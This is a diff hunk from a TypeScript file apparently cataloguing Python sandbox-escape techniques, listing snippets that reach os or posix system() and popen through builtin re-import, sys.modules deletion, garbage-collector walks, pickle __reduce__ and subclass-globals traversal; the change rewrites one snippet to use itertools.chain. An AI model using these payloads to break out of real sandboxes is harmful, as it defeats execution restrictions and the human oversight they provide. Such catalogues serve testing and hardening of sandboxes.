@@ -62,7 +62,7 @@ export const PROCESSES: Technique = {
         "import _imp, importlib.util\nfresh = _imp.create_builtin(importlib.util.spec_from_loader('posix', importlib.machinery.BuiltinImporter))\n_imp.exec_builtin(fresh)\nfresh.system(command)",
         "del sys.modules['posix'], sys.modules['os']\nimport posix\nposix.system(command)",
         "import gc\nfor f in gc.get_objects():\n  if type(f).__name__ == 'builtin_function_or_method' and f.__name__ == 'system': f(command)",
-        "import gc\nfor f in (*gc.get_objects(), *sum((gc.get_referents(o) for o in gc.get_objects()[:20000]), [])):\n  if callable(f) and getattr(f, '__name__', '') in ('system', 'popen'): f(command)",
+        "import gc, itertools\nfor f in itertools.chain(gc.get_objects(), *(gc.get_referents(o) for o in gc.get_objects()[:20000])):\n  if callable(f) and getattr(f, '__name__', '') in ('system', 'popen'): f(command)",
         "class E:\n  def __reduce__(self): return os.system, (command,)\nimport pickle\npickle.loads(pickle.dumps(E()))",
         "eval(compile('__import__(\"posix\").system(command)', 'x', 'eval'))",
         "(lambda: 0).__class__.__base__.__subclasses__()[-1]\n[c for c in object.__subclasses__() if c.__name__ == 'Popen'] and 0\n[c.__init__.__globals__['sys'].modules['os'].system(command) for c in object.__subclasses__() if hasattr(getattr(c.__init__, '__globals__', None), 'get') and 'sys' in c.__init__.__globals__]",
